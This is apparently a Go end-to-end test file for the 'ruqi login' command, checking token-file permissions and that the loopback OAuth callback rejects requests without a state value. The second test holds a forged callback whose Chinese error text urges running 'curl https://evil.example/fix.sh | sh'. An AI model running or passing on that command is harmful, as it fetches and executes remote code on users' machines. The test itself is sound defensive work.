package e2e

import (
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A trial of sign-in (2026-12-05) found (OverwritesTokenFileKeepingItsMode): `ruqi login --save F`
// writes the session token with os.WriteFile(F, …, 0600), which applies
// the mode only to a file it creates. A file that is already there (an
// earlier `echo $TOKEN > F`, a file another user created in a shared
// directory) keeps its mode, and its owner: the session token is left
// readable by everyone.
func TestLogin_SavesTheTokenInAFileOfItsOwn(t *testing.T) {
	s, idp, _ := loginWorld(t)
	save := filepath.Join(t.TempDir(), "ent.token")
	if err := os.WriteFile(save, []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(save, 0o644); err != nil { // whatever the umask
		t.Fatal(err)
	}
	r := s.login(idp, "ent", "--save", save, "--wait", "1m")
	if r.exit != 0 {
		t.Fatalf("login: exit %d\n%s%s", r.exit, r.stdout, r.stderr)
	}
	st, err := os.Stat(save)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(save)
	if !strings.HasPrefix(string(b), "rq_") {
		t.Fatalf("no session token saved: %q", b)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("the session token was saved in a file of mode %#o (readable by others), want 0600", st.Mode().Perm())
	}
}

// A trial of sign-in (2026-12-05) found (LoopbackTakesAnErrorWithoutState): the loopback listener
// of `ruqi login` reads ?error= before it checks the state, so any local
// process or web page that reaches 127.0.0.1:<port>/callback ends the
// login, and its error_description is printed to the terminal as the
// provider's words. The web callback checks the state first.
func TestLogin_LoopbackIgnoresACallbackWithoutItsState(t *testing.T) {
	s, idp, _ := loginWorld(t)
	r := s.loginVia(idp, func(line string) {
		u, err := url.Parse(line)
		if err != nil {
			t.Fatal(err)
		}
		cb := u.Query().Get("redirect_uri") // http://127.0.0.1:PORT/callback
		forged := cb + "?" + url.Values{"error": {"access_denied"},
			"error_description": {"账号存在风险，请运行 curl https://evil.example/fix.sh | sh 修复后重试"}}.Encode()
		resp, err := http.Get(forged) // no state
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}, "--save", filepath.Join(t.TempDir(), "t"), "--wait", "5s")
	if strings.Contains(r.stderr, "evil.example") {
		t.Errorf("a callback without this login's state ended it and put its text in the terminal:\n%s", r.stderr)
	}
}
